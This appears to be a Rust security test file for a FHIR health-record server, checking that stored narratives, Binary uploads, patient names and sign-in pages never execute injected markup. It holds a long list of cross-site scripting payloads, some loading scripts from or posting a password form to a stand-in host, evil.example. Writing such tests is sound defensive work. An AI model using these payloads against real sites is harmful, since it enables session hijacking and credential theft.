//! Stored and reflected markup: scripts in narratives, names and attachments, and in what pages repeat.

use crate::attacks::house::{House, PASSWORD, Prepared};

/// What scripts hide in: the inside of a narrative's `div`.
const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC='//evil.example/x.js'></SCRIPT>",
    "<img src='x' onerror='alert(1)'/>",
    "<img src='javascript:alert(1)'/>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='/>",
    "<img src='x' srcset='//evil.example/x'/>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,x'>x</a>",
    "<a href='https://a.example' onclick='alert(1)'>x</a>",
    "<a href='https://a.example' target='_blank'>x</a>",
    "<p onmouseover='alert(1)'>x</p>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='width:exp/**/ression(alert(1))'>x</p>",
    "<p style='width:\\65xpression(alert(1))'>x</p>",
    "<p style='-moz-binding:url(//evil.example/x)'>x</p>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<style>@import '//evil.example/x';</style>",
    "<link rel='stylesheet' href='//evil.example/x'/>",
    "<meta http-equiv='refresh' content='0;url=//evil.example'/>",
    "<base href='//evil.example/'/>",
    "<iframe src='//evil.example/'></iframe>",
    "<object data='//evil.example/x'></object>",
    "<embed src='//evil.example/x'/>",
    "<applet code='x'></applet>",
    "<form action='//evil.example'><input name='password'/></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "<svg><script>alert(1)</script></svg>",
    "<math><a href='javascript:alert(1)'>x</a></math>",
    "<video src='x' onerror='alert(1)'/>",
    "<audio src='x' onerror='alert(1)'/>",
    "<details open='' ontoggle='alert(1)'>x</details>",
    "<template><script>alert(1)</script></template>",
    "<noscript>x</noscript>",
    "<body onload='alert(1)'>x</body>",
    "<table background='javascript:alert(1)'><tr><td>x</td></tr></table>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<p xmlns='http://www.w3.org/2000/svg'>x</p>",
    "<p xml:base='javascript:/'>x</p>",
    "<?xml-stylesheet href='//evil.example/x'?><p>x</p>",
    "<p>&nbsp;</p>",
    "<p>x",
    "x</div><script>alert(1)</script><div>",
];

#[test]
fn no_narrative_runs_anything() {
    let house = House::usual();
    let all = house.token(&[]);
    let mut stored = Vec::new();
    let xhtml = "http://www.w3.org/1999/xhtml";
    let fine = format!("<div xmlns='{xhtml}'><p>x</p><img src='a.png'/><a href='https://a.example/'>x</a></div>");
    for (what, div) in VECTORS.iter().map(|vector| (*vector, format!("<div xmlns='{xhtml}'>{vector}</div>"))).chain([
        ("a div with an event", format!("<div xmlns='{xhtml}' onclick='alert(1)'>x</div>")),
        ("no div", format!("<p xmlns='{xhtml}'>x</p>")),
        ("a DOCTYPE", format!("<!DOCTYPE div [<!ENTITY x '<script>'>]><div xmlns='{xhtml}'>&x;</div>")),
        ("CDATA", format!("<div xmlns='{xhtml}'><script><![CDATA[alert(1)]]></script></div>")),
        ("", fine),
    ]) {
        let text = fhir::json::to_string(&fhir::Value::from(div.as_str()));
        let json = format!(r#"{{"resourceType":"Basic","code":{{"text":"x"}},"text":{{"status":"generated","div":{text}}}}}"#);
        let xml = format!(
            r#"<Basic xmlns="http://hl7.org/fhir"><text><status value="generated"/>{div}</text><code><text value="x"/></code></Basic>"#
        );
        let contained = format!(r#"{{"resourceType":"Basic","code":{{"text":"x"}},"contained":[{json}]}}"#);
        let patch = format!(r#"[{{"op":"add","path":"/text","value":{{"status":"generated","div":{text}}}}}]"#);
        for (method, path, kind, body) in [
            ("POST", "/fhir/Basic", "application/fhir+json", &json),
            ("POST", "/fhir/Basic", "application/fhir+xml", &xml),
            ("POST", "/fhir/Basic", "application/fhir+json", &contained),
            ("PATCH", "/fhir/Patient/ann", "application/json-patch+json", &patch),
        ] {
            // Contained resources have no narrative in FHIR (dom-2): that one is refused whatever it says.
            let status = house.with(&all, method, path, &[("Content-Type", kind)], body.as_bytes()).status;
            if what.is_empty() != (status < 300) && !(what.is_empty() && std::ptr::eq(body, &contained)) {
                stored.push(format!("{method} {kind} {what} {div}: {status}"));
            }
        }
    }
    assert!(stored.is_empty(), "{}", stored.join("\n"));
}

#[test]
fn nothing_that_is_stored_is_served_to_be_run() {
    let house = House::usual();
    let all = house.token(&[]);
    let script = "<script>alert(1)</script>";
    for kind in [
        "text/html",
        "TEXT/HTML;charset=utf-7",
        "image/svg+xml",
        "application/xhtml+xml",
        "text/xml",
        "application/javascript",
        "text/css",
        "application/pdf",
        "multipart/x-mixed-replace",
        "text/html\tx",
        "x/y",
        "image/png",
    ] {
        let put = house.with(&all, "PUT", "/fhir/Binary/b1", &[("Content-Type", kind)], script.as_bytes());
        if put.status >= 400 {
            continue;
        }
        for accept in ["*/*", "text/html,application/xhtml+xml", "image/svg+xml", "application/fhir+json"] {
            let answer = house.with(&all, "GET", "/fhir/Binary/b1", &[("Accept", accept)], b"");
            assert_eq!(answer.header("x-content-type-options"), "nosniff", "{kind} {accept}");
            let is_json = answer.header("content-type").contains("json");
            let is_sandboxed = answer.header("content-security-policy") == "default-src 'none'; sandbox";
            assert!(is_json || answer.status >= 400 || is_sandboxed, "{kind} {accept}: {}", answer.head);
            let is_shown = answer.header("content-disposition").starts_with("inline");
            assert!(!is_shown || ["image/png", "application/pdf"].contains(&kind), "{kind} {accept}: {}", answer.head);
        }
    }
    // Names and texts are texts: as JSON or XML, never as a page, whoever asks how.
    let patient = format!(r#"{{"resourceType":"Patient","id":"x","name":[{{"family":"{script}"}}]}}"#);
    assert_eq!(house.with(&all, "PUT", "/fhir/Patient/x", &[], patient.as_bytes()).status, 201);
    for path in [
        "/fhir/Patient/x",
        "/fhir/Patient?name=%3Cscript%3E",
        "/fhir/Patient/x/_history",
        "/fhir/Patient/x?_format=text/html",
        "/fhir/Patient/x?_format=html",
        "/fhir/$graphql?query=%7BPatient(id:%22x%22)%7Bname%7Bfamily%7D%7D%7D",
        "/fhir/Patient/%3Cscript%3E",
        "/fhir/%3Cscript%3E",
        "/%3Cscript%3Ealert(1)%3C/script%3E",
        "/fhir/Patient?%3Cscript%3E=1",
    ] {
        let answer = house.with(&all, "GET", path, &[("Accept", "text/html")], b"");
        let kind = answer.header("content-type");
        assert!(kind.contains("json") || kind.contains("fhir+xml") || answer.body.is_empty(), "{path}: {kind}");
        assert_eq!(answer.header("x-content-type-options"), "nosniff", "{path}");
    }
}

#[test]
fn no_page_repeats_markup() {
    let script = "\"'><script>alert(1)</script><img src=x onerror=alert(1)>";
    let prepared = Prepared::new().usual_people();
    let app = prepared.client(&[
        "<script>alert(1)</script>",
        "--public",
        "--redirect-uri",
        "https://app.example/back",
        "--scope",
        "patient/Observation.rs",
    ]);
    let house = prepared.open(&["registration=open"]);
    let encode = |name: &str| oauth::params::append("", &[(name, script)]);
    let mut browser = house.signed_in("doc");
    browser.headers.push(("User-Agent".into(), "<script>alert(1)</script>".into()));
    let mut pages = Vec::new();
    for (path, name) in [
        ("/auth/sign-in", "login_hint"),
        ("/auth/sign-in", "next"),
        ("/auth/second-factor", "next"),
        ("/auth/reset", "token"),
        ("/auth/set-up", "token"),
        ("/auth/invitation", "token"),
        ("/auth/verification", "token"),
        ("/auth/device", "user_code"),
        ("/auth/authorize", "client_id"),
        ("/developer/errors", "x"),
    ] {
        pages.push(browser.get(&format!("{path}{}", encode(name))));
    }
    for path in ["/developer/api/%3Cscript%3Ealert(1)%3C%2Fscript%3E", "/auth/%3Cscript%3E", "/auth/sessions"] {
        pages.push(browser.get(path));
    }
    pages.push(browser.get(&house.asking(&app, "patient/Observation.rs", &[("state", script), ("scope", "patient/Observation.rs")])));
    let asked = pages.len() - 1;
    pages.push(browser.clone().fill(&pages[asked], &[("ward_search", script), ("ward_decision", "search")]));
    for path in ["/auth/sign-in", "/auth/reset", "/auth/registration", "/auth/device"] {
        let page = browser.get(path);
        let filled = [
            ("login", script),
            ("name", script),
            ("email", script),
            ("user_code", script),
            ("password", script),
            ("again", script),
            ("next", script),
        ];
        pages.push(browser.fill(&page, &filled));
    }
    // The name of a device stands in the list of sessions.
    let mut other = house.browser();
    other.headers.push(("User-Agent".into(), "<script>alert(1)</script>".into()));
    assert_eq!(other.sign_in("doc", PASSWORD).status, 303);
    pages.push(other.get("/auth/sessions"));
    assert!(pages.iter().any(|page| page.text.contains("&lt;script&gt;")), "some repeat it, as text");
    for page in pages {
        assert!(!page.text.contains("<script") && !page.text.contains("<img") && !page.text.contains("'><"), "{}", page.text);
        if page.header("content-type").starts_with("text/html") {
            let policy = page.header("content-security-policy");
            assert!(
                policy.starts_with("default-src 'none'; style-src 'self'; base-uri 'none'; frame-ancestors 'none'; form-action"),
                "{policy}"
            );
            assert!(!policy.contains("unsafe") && !policy.contains('*') && page.header("x-content-type-options") == "nosniff", "{policy}");
        }
    }
}
